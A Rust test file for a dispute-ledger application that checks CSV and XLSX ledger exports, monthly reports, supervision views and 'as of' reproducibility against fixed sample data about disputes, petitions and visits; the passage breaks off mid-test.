//! Reports: the Annex 2 ledger (CSV, XLSX), the monthly report, the supervision views, and
//! their reproducibility "as of" a past date.

use std::io::Cursor;
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use chrono::NaiveDate;
use fieldledger_core::model::monthly::report_id;
use fieldledger_core::model::unit::profile_id;
use fieldledger_core::model::{RecordKind, Role};
use fieldledger_core::report::ledger::{
    self, HEADERS, Ledger, LedgerFormat, LedgerQuery, TITLE, UNIT_HEADER, export_ledger,
};
use fieldledger_core::report::monthly::{
    MonthlyQuery, ScreeningStatus, SubmissionStatus, bureau_monthly, unit_monthly,
};
use fieldledger_core::report::supervision::{SupervisionQuery, record_history, supervision};
use fieldledger_core::report::{Campaign, Snapshot};
use fieldledger_core::store::DisputeFilter;
use fieldledger_core::testing::{day_ms, memory_store, ticking_clock};
use fieldledger_core::{Edit, FieldValue, Record, Store};

const BOM: &[u8] = b"\xEF\xBB\xBF";

fn date(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn measure(date: &str, by: &str, what: &str) -> Edit {
    Edit::Append {
        list: "measures".into(),
        values: vec![
            ("date".into(), FieldValue::text(date)),
            ("by".into(), FieldValue::text(by)),
            ("what".into(), FieldValue::text(what)),
        ],
    }
}

fn bool_set(field: &str, v: bool) -> Edit {
    Edit::set(field, FieldValue::Bool(v))
}

/// The fixed data every test starts from, entered by the bureau office between 2019-10-01 and
/// 2019-10-22 on a ticking clock; `clock` moves the clock for later edits.
struct Fixture {
    store: Store,
    clock: Arc<AtomicI64>,
    /// 张某医疗纠纷 (WJK).
    medical: String,
    /// 欠薪纠纷 (WJK, resolved).
    wages: String,
    /// 医患纠纷 (ZYY, overdue, no leader, in conflict).
    zyy: String,
}

impl Fixture {
    fn at(&self, day: &str) {
        self.clock.store(day_ms(day), Ordering::SeqCst);
    }
}

fn as_of(day: &str) -> i64 {
    Campaign::plan(2019).end_of_day_ms(date(day))
}

fn fixture() -> Fixture {
    let (clock, t) = ticking_clock(day_ms("2019-10-01"));
    let mut s = memory_store("office", "JGB", Role::Office, "O1");
    s.set_clock(clock.clone());
    let f = |s: &mut Store, id: &str, kind, unit, edits: &[Edit]| {
        s.create_with_id(id, kind, Some(unit), edits, None).unwrap()
    };
    let target = |code: &str, name: &str| Edit::Append {
        list: "visit_targets".into(),
        values: vec![
            ("code".into(), FieldValue::text(code)),
            ("name".into(), FieldValue::text(name)),
            ("place".into(), FieldValue::text("城关镇")),
        ],
    };
    f(
        &mut s,
        &profile_id("WJK"),
        RecordKind::UnitProfile,
        "WJK",
        &[
            Edit::text("unit_name", "区卫健局"),
            target("T1", "王某户"),
            target("T2", "李某户"),
            target("T3", "城关镇卫生院"),
        ],
    );
    f(
        &mut s,
        &profile_id("ZYY"),
        RecordKind::UnitProfile,
        "ZYY",
        &[Edit::text("unit_name", "区中医院"), target("Z1", "赵某户")],
    );

    t.store(day_ms("2019-10-08"), Ordering::SeqCst);
    let medical = s
        .create(
            RecordKind::Dispute,
            Some("WJK"),
            &[
                Edit::text("name", "张某医疗纠纷"),
                Edit::text("category", "医疗卫生"),
                Edit::text("situation", "患者家属对治疗结果有异议，多次到院反映。"),
                // Entered out of order: the export sorts them by date.
                measure("2019-10-12", "李四", "组织三方调解"),
                measure("2019-10-09", "张三", "上门沟通"),
                Edit::text("difficulties", "涉及医疗损害鉴定，责任认定难"),
                Edit::text("trend", "easing"),
                bool_set("resolving_soon", true),
                Edit::text("leader", "李局长"),
                Edit::text("responsible", "王科长"),
                Edit::text("remarks", "已申请医疗损害鉴定"),
                Edit::set("people_involved", FieldValue::Int(3)),
                bool_set("is_major", false),
                bool_set("is_group", true),
                Edit::text("found_on", "2019-10-08"),
                Edit::text("deadline", "2019-10-20"),
            ],
        )
        .unwrap();
    t.store(day_ms("2019-10-15"), Ordering::SeqCst);
    let wages = s
        .create(
            RecordKind::Dispute,
            Some("WJK"),
            &[
                Edit::text("name", "欠薪纠纷"),
                Edit::text("category", "劳动就业"),
                Edit::text("situation", "施工队拖欠农民工工资"),
                Edit::text("trend", "resolved"),
                Edit::text("resolved_on", "2019-10-18"),
                Edit::set("people_involved", FieldValue::Int(12)),
                bool_set("is_major", true),
                bool_set("is_legacy", true),
                Edit::text("found_on", "2019-10-15"),
            ],
        )
        .unwrap();
    s.create(
        RecordKind::Dispute,
        Some("WJK"),
        &[
            Edit::text("name", "名称含\"引号\",逗号"),
            Edit::text("situation", "第一行\n第二行"),
            Edit::text("trend", "stable"),
            bool_set("resolving_soon", false),
            Edit::text("found_on", "2019-10-16"),
        ],
    )
    .unwrap();
    t.store(day_ms("2019-10-05"), Ordering::SeqCst);
    let zyy = s
        .create(
            RecordKind::Dispute,
            Some("ZYY"),
            &[
                Edit::text("name", "医患纠纷"),
                Edit::text("category", "医疗卫生"),
                Edit::text("trend", "escalating"),
                Edit::set("people_involved", FieldValue::Int(2)),
                bool_set("is_cross_region", true),
                Edit::text("found_on", "2019-10-05"),
                Edit::text("deadline", "2019-10-10"),
            ],
        )
        .unwrap();

    // A second office device sets 所涉人数 differently while offline: a conflict.
    let mut other = memory_store("office2", "JGB", Role::Office, "O2");
    other.set_clock(clock.clone());
    t.store(day_ms("2019-10-11"), Ordering::SeqCst);
    other
        .merge_remote(&zyy, &s.document_bytes(&zyy).unwrap())
        .unwrap();
    s.edit(&zyy, &[Edit::set("people_involved", FieldValue::Int(5))])
        .unwrap();
    other
        .edit(&zyy, &[Edit::set("people_involved", FieldValue::Int(8))])
        .unwrap();
    s.merge_remote(&zyy, &other.document_bytes(&zyy).unwrap())
        .unwrap();

    // Visits of WJK.
    let visit =
        |s: &mut Store, day: &str, round: &str, target: Option<&str>, demands: &[(&str, &str)]| {
            let mut e = vec![
                Edit::text("visit_date", day),
                Edit::text("round", round),
                Edit::text("visited_name", "走访对象"),
            ];
            if let Some(t) = target {
                e.push(Edit::text("target", t));
            }
            for (content, status) in demands {
                e.push(Edit::Append {
                    list: "demands".into(),
                    values: vec![
                        ("content".into(), FieldValue::text(*content)),
                        ("status".into(), FieldValue::text(*status)),
                        ("response".into(), FieldValue::text("已答复")),
                    ],
                });
            }
            s.create(RecordKind::Visit, Some("WJK"), &e).unwrap();
        };
    t.store(day_ms("2019-10-05"), Ordering::SeqCst);
    visit(
        &mut s,
        "2019-10-05",
        "1",
        Some("T1"),
        &[("修路", "fulfilled"), ("看病难", "recorded")],
    );
    visit(
        &mut s,
        "2019-10-20",
        "1",
        Some("T2"),
        &[("缺医生", "answered")],
    );
    visit(&mut s, "2019-10-21", "adhoc", None, &[]);
    visit(
        &mut s,
        "2019-09-28",
        "1",
        Some("T1"),
        &[("旧诉求", "recorded")],
    );

    // Petition cases: one signed off on 10-16, one without a leader.
    t.store(day_ms("2019-10-06"), Ordering::SeqCst);
    let case = s
        .create(
            RecordKind::Petition,
            Some("WJK"),
            &[
                Edit::text("title", "刘某信访案"),
                Edit::text("leader", "刘书记"),
                Edit::text("disposition", "solved"),
                Edit::text("status", "resolved"),
            ],
        )
        .unwrap();
    s.create(
        RecordKind::Petition,
        Some("WJK"),
        &[Edit::text("title", "陈某信访案")],
    )
    .unwrap();
    t.store(day_ms("2019-10-16"), Ordering::SeqCst);
    s.sign_off(&case, "化解到位").unwrap();

    // Risk assessments.
    for (decision, day, result) in [
        ("医院迁建", "2019-10-10", "failed"),
        ("门诊楼改造", "2019-10-12", "passed"),
    ] {
        s.create(
            RecordKind::RiskAssessment,
            Some("WJK"),
            &[
                Edit::text("decision", decision),
                Edit::text("assessed_on", day),
                Edit::text("result", result),
            ],
        )
        .unwrap();
    }

    // Screening: WJK held the first half of October only; ZYY none.
    s.create(
        RecordKind::Screening,
        Some("WJK"),
        &[
            Edit::text("screened_on", "2019-10-10"),
            bool_set("found_nothing", true),
        ],
    )
    .unwrap();

    // A bureau inspection of WJK with a rectification due 10-15, still open.
    s.create(
        RecordKind::Inspection,
        Some("WJK"),
        &[
            Edit::text("inspected_on", "2019-10-08"),
            Edit::text("kind", "bureau"),
            Edit::Append {
                list: "problems".into(),
                values: vec![
                    ("problem".into(), FieldValue::text("台账不全")),
                    ("requirement".into(), FieldValue::text("补齐走访台账")),
                    ("deadline".into(), FieldValue::text("2019-10-15")),
                    ("status".into(), FieldValue::text("open")),
                ],
            },
        ],
    )
    .unwrap();

    // Monthly reports: WJK submitted on the 21st; ZYY only a draft.
    t.store(day_ms("2019-10-21"), Ordering::SeqCst);
    f(
        &mut s,
        &report_id("WJK", "2019-10"),
        RecordKind::MonthlyReport,
        "WJK",
        &[
            Edit::text("month", "2019-10"),
            Edit::text(
                "experience",
                "建立“周研判”机制。\n<b>包案到人</b> & *责任到岗*",
            ),
            Edit::text("problems", "部分单位走访台账不规范。"),
            Edit::text("submitted_on", "2019-10-21"),
            Edit::text("submitted_by", "王科长"),
        ],
    );
    f(
        &mut s,
        &report_id("ZYY", "2019-10"),
        RecordKind::MonthlyReport,
        "ZYY",
        &[Edit::text("month", "2019-10")],
    );
    t.store(day_ms("2019-10-22"), Ordering::SeqCst);
    Fixture {
        store: s,
        clock: t,
        medical,
        wages,
        zyy,
    }
}

fn wjk_query() -> LedgerQuery {
    LedgerQuery {
        filter: DisputeFilter {
            units: Some(vec!["WJK".into()]),
            ..Default::default()
        },
        ..Default::default()
    }
}

fn csv_text(bytes: &[u8]) -> &str {
    assert!(bytes.starts_with(BOM), "CSV starts with a UTF-8 BOM");
    std::str::from_utf8(&bytes[BOM.len()..]).unwrap()
}

#[test]
fn ledger_csv_per_unit_has_bom_form_headers_and_rows() {
    let fx = fixture();
    let bytes = export_ledger(
        &fx.store,
        &wjk_query(),
        LedgerFormat::Csv,
        &Campaign::plan(2019),
    )
    .unwrap();
    assert_eq!(&bytes[..3], [0xEF, 0xBB, 0xBF]);
    let text = csv_text(&bytes);
    assert_eq!(
        text.split("\r\n").next().unwrap(),
        "序号,名称,类型,基本情况,工作措施,处置难点,状态趋势,责任领导,责任人,备注情况,所涉人数,是否重大问题,是否群体性问题,是否跨区域问题,是否历史遗留问题"
    );
    insta::assert_snapshot!("ledger_wjk_csv", text);
    // Read back with a CSV reader: 15 columns, 序号 1..n, dated measure lines, 是/否.
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|r| r.len() == 15));
    let seq: Vec<&str> = rows.iter().map(|r| &r[0]).collect();
    assert_eq!(seq, ["1", "2", "3"]);
    assert_eq!(&rows[0][1], "张某医疗纠纷");
    assert_eq!(
        &rows[0][4],
        "2019-10-09 上门沟通（张三）\n2019-10-12 组织三方调解（李四）"
    );
    assert_eq!(&rows[0][6], "趋于缓和（近期可化解）");
    assert_eq!(&rows[0][12], "是");
    assert_eq!(&rows[0][11], "否");
    assert_eq!(&rows[1][6], "已化解");
    assert_eq!(&rows[2][1], "名称含\"引号\",逗号");
    assert_eq!(&rows[2][3], "第一行\n第二行");
    assert_eq!(&rows[2][6], "基本稳定（近期难以化解）");
}

#[test]
fn consolidated_csv_adds_the_unit_after_the_fifteen_columns() {
    let fx = fixture();
    let q = LedgerQuery {
        consolidated: true,
        ..Default::default()
    };
    let bytes = export_ledger(&fx.store, &q, LedgerFormat::Csv, &Campaign::plan(2019)).unwrap();
    let text = csv_text(&bytes);
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(headers[..15], HEADERS.map(String::from));
    assert_eq!(headers[15], UNIT_HEADER);
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    let got: Vec<(&str, &str, &str)> = rows.iter().map(|r| (&r[0], &r[1], &r[15])).collect();
    assert_eq!(
        got,
        [
            ("1", "张某医疗纠纷", "区卫健局"),
            ("2", "欠薪纠纷", "区卫健局"),
            ("3", "名称含\"引号\",逗号", "区卫健局"),
            ("4", "医患纠纷", "区中医院"),
        ]
    );
}

fn cell(r: &calamine::Range<Data>, row: u32, col: u32) -> String {
    match r.get_value((row, col)) {
        None | Some(Data::Empty) => String::new(),
        Some(Data::String(s)) => s.clone(),
        Some(Data::Float(f)) => f.to_string(),
        Some(Data::Int(i)) => i.to_string(),
        Some(other) => format!("{other:?}"),
    }
}

#[test]
fn ledger_xlsx_reads_back_with_title_headers_and_cells() {
    let fx = fixture();
    let mut q = wjk_query();
    q.as_of = Some(as_of("2019-10-25"));
    let bytes = export_ledger(&fx.store, &q, LedgerFormat::Xlsx, &Campaign::plan(2019)).unwrap();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    assert_eq!(wb.sheet_names(), ["统计表"]);
    let merges = wb.worksheet_merge_cells("统计表").unwrap().unwrap();
    assert!(
        merges.iter().any(|m| m.start == (0, 0) && m.end == (0, 14)),
        "title merged across the 15 columns: {merges:?}"
    );
    let r = wb.worksheet_range("统计表").unwrap();
    assert_eq!(cell(&r, 0, 0), TITLE);
    assert_eq!(cell(&r, 1, 0), "填报单位：区卫健局");
    assert_eq!(cell(&r, 1, 9), "截至：2019-10-25");
    let headers: Vec<String> = (0..15).map(|c| cell(&r, 2, c)).collect();
    assert_eq!(headers, HEADERS);
    assert_eq!(cell(&r, 2, 15), "", "no 16th column per unit");
    assert_eq!(
        (3..6).map(|row| cell(&r, row, 0)).collect::<Vec<_>>(),
        ["1", "2", "3"]
    );
    assert!(
        matches!(r.get_value((3, 0)), Some(Data::Float(_))),
        "序号 is a number"
    );
    assert_eq!(cell(&r, 3, 1), "张某医疗纠纷");
    assert_eq!(cell(&r, 3, 2), "医疗卫生");
    assert_eq!(
        cell(&r, 3, 4),
        "2019-10-09 上门沟通（张三）\n2019-10-12 组织三方调解（李四）"
    );
    assert_eq!(cell(&r, 3, 7), "李局长");
    assert_eq!(cell(&r, 3, 10), "3");
    assert_eq!(
        (11..15).map(|c| cell(&r, 3, c)).collect::<Vec<_>>(),
        ["否", "是", "否", "否"]
    );
    assert_eq!(
        (11..15).map(|c| cell(&r, 4, c)).collect::<Vec<_>>(),
        ["是", "否", "否", "是"]
    );
    assert_eq!(cell(&r, 6, 0), "", "three rows only");
}

#[test]
fn consolidated_xlsx_has_a_summary_sheet_and_one_form_sheet_per_unit() {
    let fx = fixture();
    let q = LedgerQuery {
        consolidated: true,
        ..Default::default()
    };
    let bytes = export_ledger(&fx.store, &q, LedgerFormat::Xlsx, &Campaign::plan(2019)).unwrap();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    assert_eq!(wb.sheet_names(), ["汇总", "区卫健局", "区中医院"]);
    let all = wb.worksheet_range("汇总").unwrap();
    assert_eq!(cell(&all, 0, 0), TITLE);
    assert_eq!(cell(&all, 2, 15), UNIT_HEADER);
    assert_eq!(cell(&all, 6, 0), "4");
    assert_eq!(cell(&all, 6, 1), "医患纠纷");
    assert_eq!(cell(&all, 6, 15), "区中医院");
    let zyy = wb.worksheet_range("区中医院").unwrap();
    assert_eq!(cell(&zyy, 1, 0), "填报单位：区中医院");
    assert_eq!(
        (0..15).map(|c| cell(&zyy, 2, c)).collect::<Vec<_>>(),
        HEADERS
    );
    assert_eq!(cell(&zyy, 3, 0), "1", "序号 restarts per unit sheet");
    assert_eq!(cell(&zyy, 3, 1), "医患纠纷");
    assert_eq!(cell(&zyy, 3, 13), "是");
}

#[test]
fn ledger_filters_select_rows_and_as_of_filtering_matches_the_index() {
    let fx = fixture();
    let c = Campaign::plan(2019);
    let names = |f: DisputeFilter, at: Option<i64>| -> Vec<String> {
        Snapshot::new(&fx.store, at, &c)
            .disputes(&f)
            .unwrap()
            .into_iter()
            .map(|d| d.name)
            .collect()
    };
    let cases: Vec<(DisputeFilter, Vec<&str>)> = vec![
        (
            DisputeFilter {
                category: Some("医疗卫生".into()),
                ..Default::default()
            },
            vec!["张某医疗纠纷", "医患纠纷"],
        ),
        (
            DisputeFilter {
                status: Some("resolved".into()),
                ..Default::default()
            },
            vec!["欠薪纠纷"],
        ),
        (
            DisputeFilter {
                status: Some("open".into()),
                units: Some(vec!["WJK".into()]),
                ..Default::default()
            },
            vec!["张某医疗纠纷", "名称含\"引号\",逗号"],
        ),
        (
            DisputeFilter {
                is_major: Some(true),
                ..Default::default()
            },
            vec!["欠薪纠纷"],
        ),
        (
            DisputeFilter {
                is_major: Some(false),
                is_group: Some(false),
                ..Default::default()
            },
            vec!["名称含\"引号\",逗号", "医患纠纷"],
        ),
        (
            DisputeFilter {
                is_cross_region: Some(true),
                ..Default::default()
            },
            vec!["医患纠纷"],
        ),
        (
            DisputeFilter {
                is_legacy: Some(true),
                ..Default::default()
            },
            vec!["欠薪纠纷"],
        ),
        (
            DisputeFilter {
                found_from: Some(date("2019-10-08")),
                found_to: Some(date("2019-10-15")),
                ..Default::default()
            },
            vec!["张某医疗纠纷", "欠薪纠纷"],
        ),
        (
            DisputeFilter {
                overdue_on: Some(date("2019-10-25")),
                ..Default::default()
            },
            vec!["张某医疗纠纷", "医患纠纷"],
        ),
    ];
    for (f, want) in cases {
        assert_eq!(names(f.clone(), None), want, "index: {f:?}");
        // The as-of path filters the rebuilt records in Rust; it must agree with the index.
        assert_eq!(
            names(f.clone(), Some(as_of("2030-01-01"))),
            want,
            "as of: {f:?}"
        );
    }
    // The filtered ledger export holds exactly the filtered rows.
    let q = LedgerQuery {
        filter: DisputeFilter {
            is_major: Some(true),
            ..Default::default()
        },
        ..Default::default()
    };
    let l = Ledger::load(&fx.store, &q, &c).unwrap();
    let rows = csv_rows(&l.csv().unwrap());
    assert_eq!(rows.len(), 1);
    assert_eq!((&rows[0][0], &rows[0][1]), ("1", "欠薪纠纷"));
}

/// Everything the reports produce as of a moment, as bytes.
fn all_outputs(s: &Store, at: Option<i64>) -> Vec<Vec<u8>> {
    let c = Campaign::plan(2019);
    let mut q = LedgerQuery {
        consolidated: true,
        as_of: at,
        ..Default::default()
    };
    let mut out = vec![
        export_ledger(s, &q, LedgerFormat::Csv, &c).unwrap(),
        export_ledger(s, &q, LedgerFormat::Xlsx, &c).unwrap(),
    ];
    q.consolidated = false;
    q.filter.units = Some(vec!["ZYY".into()]);
    out.push(export_ledger(s, &q, LedgerFormat::Csv, &c).unwrap());
    let m = unit_monthly(
        s,
        &MonthlyQuery {
            unit: "WJK".into(),
            month: "2019-10".into(),
            as_of: at,
        },
        &c,
    )
    .unwrap();
    out.push(m.markdown().into_bytes());
    out.push(m.html().into_bytes());
    out.push(m.xlsx().unwrap());
    let b = bureau_monthly(s, "2019-10", None, at, &c).unwrap();
    out.push(b.markdown().into_bytes());
    out.push(b.xlsx().unwrap());
    let sup = supervision(
        s,
        &SupervisionQuery {
            units: None,
            as_of: at,
        },
        &c,
    )
    .unwrap();
    out.push(serde_json::to_vec(&sup).unwrap());
    out.push(sup.document().markdown().into_bytes());
    out
}

#[test]
fn as_of_output_is_identical_after_later_edits_and_across_runs() {
    let mut fx = fixture();
    let at = Some(as_of("2019-10-25"));
    let first = all_outputs(&fx.store, at);
    // Across a second boundary, so a wall-clock time leaking into a file would show.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    assert_eq!(
        first,
        all_outputs(&fx.store, at),
        "two runs give identical bytes"
    );
    let now_before = all_outputs(&fx.store, None);

    // After the as-of date: rename, resolve, add a measure, resolve the conflict, move the
    // ZYY dispute to WJK, submit ZYY's report, screen again, visit T3.
    fx.at("2019-11-02");
    let s = &mut fx.store;
    s.edit(
        &fx.medical,
        &[
            Edit::text("name", "张某医疗纠纷（已改名）"),
            Edit::text("trend", "resolved"),
            Edit::text("resolved_on", "2019-11-02"),
            measure("2019-11-01", "张三", "达成调解协议"),
        ],
    )
    .unwrap();
    s.edit(&fx.wages, &[bool_set("is_major", false)]).unwrap();
    s.resolve_conflict(&fx.zyy, "people_involved", FieldValue::Int(6))
        .unwrap();
    s.move_to_unit(&fx.zyy, "WJK").unwrap();
    s.edit(
        &report_id("ZYY", "2019-10"),
        &[Edit::text("submitted_on", "2019-11-02")],
    )
    .unwrap();
    s.create(
        RecordKind::Screening,
        Some("ZYY"),
        &[Edit::text("screened_on", "2019-10-20")],
    )
    .unwrap();

    let later = all_outputs(&fx.store, at);
    for (i, (a, b)) in first.iter().zip(&later).enumerate() {
        assert!(
            a == b,
            "output {i} changed after edits made after the as-of date"
        );
    }
    let now_after = all_outputs(&fx.store, None);
    for i in [0, 2, 3, 6, 8] {
        assert_ne!(
            now_before[i], now_after[i],
            "output {i}: the edits show in the present"
        );
    }
    // The as-of ZYY ledger still holds the dispute that has since moved to WJK.
    let zyy_then = String::from_utf8(first[2].clone()).unwrap();
    assert!(zyy_then.contains("医患纠纷"));
    assert!(
        !String::from_utf8(now_after[2].clone())
            .unwrap()
            .contains("医患纠纷")
    );
}

fn csv_rows(bytes: &[u8]) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(csv_text(bytes).as_bytes())
        .records()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn as_of_before_a_record_existed_leaves_it_out() {
    let fx = fixture();
    let names_as_of = |day: &str| -> Vec<String> {
        let q = LedgerQuery {
            as_of: Some(as_of(day)),
            ..wjk_query()
        };
        let bytes = export_ledger(&fx.store, &q, LedgerFormat::Csv, &Campaign::plan(2019)).unwrap();
        csv_rows(&bytes).iter().map(|r| r[1].to_owned()).collect()
    };
    assert!(
        names_as_of("2019-10-07").is_empty(),
        "no WJK dispute existed yet"
    );
    assert_eq!(names_as_of("2019-10-08"), ["张某医疗纠纷"]);
    assert_eq!(names_as_of("2019-10-15").len(), 3);
}

fn wjk_monthly(s: &Store, day: &str) -> fieldledger_core::report::monthly::UnitMonthly {
    unit_monthly(
        s,
        &MonthlyQuery {
            unit: "WJK".into(),
            month: "2019-10".into(),
            as_of: Some(as_of(day)),
        },
        &Campaign::plan(2019),
    )
    .unwrap()
}

#[test]
fn monthly_report_markdown_snapshot_and_figures() {
    let fx = fixture();
    let m = wjk_monthly(&fx.store, "2019-11-01");
    // Round 1: 2 visits in October covering T1 and T2 (the September visit covers T1 again).
    let r1 = &m.rounds[0];
    assert_eq!(
        (r1.visits, r1.targets_covered, r1.targets_total),
        (2, Some(2), 3)
    );
    assert_eq!(m.rounds[2].round, "adhoc");
    assert_eq!(m.rounds[2].visits, 1);
    assert_eq!((m.demands_collected, m.demands_done), (3, 2));
    let total = &m.disputes_total;
    assert_eq!((total.found, total.resolved, total.open), (3, 1, 2));
    assert_eq!(m.signed_off.len(), 1);
    assert_eq!(m.signed_off[0].on, date("2019-10-16"));
    assert_eq!(m.not_to_proceed, ["医院迁建"]);
    let st: Vec<ScreeningStatus> = m.screening.iter().map(|s| s.status).collect();
    assert_eq!(st, [ScreeningStatus::Held, ScreeningStatus::Missed]);
    assert_eq!(m.submission.status, SubmissionStatus::OnTime);
    insta::assert_snapshot!("monthly_wjk_2019_10_md", m.markdown());

    // HTML escapes what people typed.
    let html = m.html();
    assert!(
        html.contains("&lt;b&gt;包案到人&lt;/b&gt; &amp; *责任到岗*"),
        "{html}"
    );
    assert!(!html.contains("<b>包案到人"));
    // XLSX reads back with the title and the free text.
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(m.xlsx().unwrap())).unwrap();
    let r = wb.worksheet_range("月报").unwrap();
    assert_eq!(cell(&r, 0, 0), "区卫健局 2019年10月工作月报");
    let texts: Vec<String> = r.cells().map(|(_, _, v)| v.to_string()).collect();
    assert!(texts.iter().any(|t| t.contains("周研判")), "{texts:?}");
    assert!(texts.iter().any(|t| t == "第一轮"));
}

#[test]
fn monthly_screening_is_not_due_before_the_half_month_ends() {
    let fx = fixture();
    let m = wjk_monthly(&fx.store, "2019-10-25");
    let st: Vec<ScreeningStatus> = m.screening.iter().map(|s| s.status).collect();
    assert_eq!(st, [ScreeningStatus::Held, ScreeningStatus::NotDue]);
    // Coverage counts only visits up to the as-of day: T2 is visited on the 20th.
    assert_eq!(m.rounds[0].targets_covered, Some(2));
    assert_eq!(
        wjk_monthly(&fx.store, "2019-10-19").rounds[0].targets_covered,
        Some(1)
    );
}

#[test]
fn bureau_view_lists_late_units() {
    let mut fx = fixture();
    let c = Campaign::plan(2019);
    let before_due =
        bureau_monthly(&fx.store, "2019-10", None, Some(as_of("2019-10-22")), &c).unwrap();
    assert!(before_due.late.is_empty(), "nobody is late on the 22nd");
    assert_eq!(before_due.units[1].status, SubmissionStatus::Pending);

    let after = bureau_monthly(&fx.store, "2019-10", None, Some(as_of("2019-10-23")), &c).unwrap();
    assert_eq!(after.last_on_time, date("2019-10-22"));
    assert_eq!(after.late, ["ZYY"]);
    let st: Vec<(&str, SubmissionStatus)> = after
        .units
        .iter()
        .map(|u| (u.unit.as_str(), u.status))
        .collect();
    assert_eq!(
        st,
        [
            ("WJK", SubmissionStatus::OnTime),
            ("ZYY", SubmissionStatus::Missing)
        ]
    );
    assert!(
        after
            .markdown()
            .contains("| 区中医院 | ZYY | — | — | 逾期未报 |"),
        "{}",
        after.markdown()
    );

    // Submitting on the 24th is still late; scoping to one unit lists only it.
    fx.at("2019-10-24");
    fx.store
        .edit(
            &report_id("ZYY", "2019-10"),
            &[Edit::text("submitted_on", "2019-10-24")],
        )
        .unwrap();
    let b = bureau_monthly(
        &fx.store,
        "2019-10",
        Some(&["ZYY".into()]),
        Some(as_of("2019-10-25")),
        &c,
    )
    .unwrap();
    assert_eq!(b.units.len(), 1);
    assert_eq!(b.units[0].status, SubmissionStatus::SubmittedLate);
    assert_eq!(b.late, ["ZYY"]);
}

#[test]
fn supervision_views_with_counts_per_unit() {
    let fx = fixture();
    let c = Campaign::plan(2019);
    let sup = supervision(
        &fx.store,
        &SupervisionQuery {
            units: None,
            as_of: Some(as_of("2019-10-25")),
        },
        &c,
    )
    .unwrap();
    assert_eq!(sup.today, date("2019-10-25"));
    let overdue: Vec<(&str, i64)> = sup
        .overdue_disputes
        .items
        .iter()
        .map(|i| (i.name.as_str(), i.days_overdue))
        .collect();
    assert_eq!(overdue, [("张某医疗纠纷", 5), ("医患纠纷", 15)]);
    assert_eq!(sup.overdue_disputes.per_unit["WJK"], 1);
    assert_eq!(sup.overdue_disputes.per_unit["ZYY"], 1);

    let no_leader: Vec<&str> = sup
        .without_leader
        .items
        .iter()
        .map(|i| i.title.as_str())
        .collect();
    assert_eq!(no_leader, ["名称含\"引号\",逗号", "陈某信访案", "医患纠纷"]);

    assert_eq!(sup.current_round.as_deref(), Some("1"));
    let uncovered: Vec<(&str, &str)> = sup
        .uncovered_targets
        .items
        .iter()
        .map(|i| (i.unit.as_str(), i.code.as_str()))
        .collect();
    assert_eq!(uncovered, [("WJK", "T3"), ("ZYY", "Z1")]);

    let missing: Vec<(&str, &str)> = sup
        .missing_screenings
        .items
        .iter()
        .map(|i| (i.unit.as_str(), i.label.as_str()))
        .collect();
    assert_eq!(
        missing,
        [("ZYY", "2019-10 上半月")],
        "the second half has not ended on 10-25"
    );

    assert_eq!(sup.overdue_rectifications.items.len(), 1);
    assert_eq!(sup.overdue_rectifications.items[0].days_overdue, 10);
    assert_eq!(sup.overdue_rectifications.per_unit["ZYY"], 0);

    assert_eq!(sup.open_conflicts.items.len(), 1);
    assert_eq!(sup.open_conflicts.items[0].id, fx.zyy);
    assert_eq!(sup.open_conflicts.items[0].fields, ["所涉人数"]);
    // The present view finds the same conflict through the index.
    let now = supervision(&fx.store, &SupervisionQuery::default(), &c).unwrap();
    assert_eq!(now.open_conflicts.items, sup.open_conflicts.items);

    // On 11-05: round 2 is under way, nothing of it covered; both halves of October missed
    // by ZYY, the second by WJK.
    let nov = supervision(
        &fx.store,
        &SupervisionQuery {
            units: None,
            as_of: Some(as_of("2019-11-05")),
        },
        &c,
    )
    .unwrap();
    assert_eq!(nov.current_round.as_deref(), Some("2"));
    assert_eq!(nov.uncovered_targets.per_unit["WJK"], 3);
    assert_eq!(nov.missing_screenings.per_unit["WJK"], 1);
    assert_eq!(nov.missing_screenings.per_unit["ZYY"], 2);

    // Scoped to one unit: only its items and its count.
    let wjk = supervision(
        &fx.store,
        &SupervisionQuery {
            units: Some(vec!["WJK".into()]),
            as_of: Some(as_of("2019-10-25")),
        },
        &c,
    )
    .unwrap();
    assert!(wjk.overdue_disputes.items.iter().all(|i| i.unit == "WJK"));
    assert_eq!(
        wjk.overdue_disputes.per_unit.keys().collect::<Vec<_>>(),
        ["WJK"]
    );
    assert!(wjk.open_conflicts.items.is_empty());
}

#[test]
fn missing_screening_rounds_follow_the_half_months() {
    let fx = fixture();
    let c = Campaign::plan(2019);
    let missing = |day: &str| -> Vec<String> {
        supervision(
            &fx.store,
            &SupervisionQuery {
                units: Some(vec!["WJK".into()]),
                as_of: Some(as_of(day)),
            },
            &c,
        )
        .unwrap()
        .missing_screenings
        .items
        .into_iter()
        .map(|i| i.label)
        .collect()
    };
    assert!(
        missing("2019-10-31").is_empty(),
        "the half ending 10-31 is still running"
    );
    assert_eq!(missing("2019-11-01"), ["2019-10 下半月"]);
    assert_eq!(missing("2019-11-16"), ["2019-10 下半月", "2019-11 上半月"]);
    // After the campaign's end nothing more falls due.
    assert_eq!(missing("2020-03-01").len(), 5);
}

#[test]
fn record_history_as_of_stops_at_the_date() {
    let mut fx = fixture();
    let all = record_history(&fx.store, &fx.medical, None).unwrap();
    fx.at("2019-11-02");
    fx.store
        .edit(&fx.medical, &[Edit::text("remarks", "更新")])
        .unwrap();
    let then = record_history(&fx.store, &fx.medical, Some(as_of("2019-10-25"))).unwrap();
    assert_eq!(then, all);
    assert_eq!(
        record_history(&fx.store, &fx.medical, None).unwrap().len(),
        all.len() + 1
    );
    let Some(Record::Dispute(d)) = fx
        .store
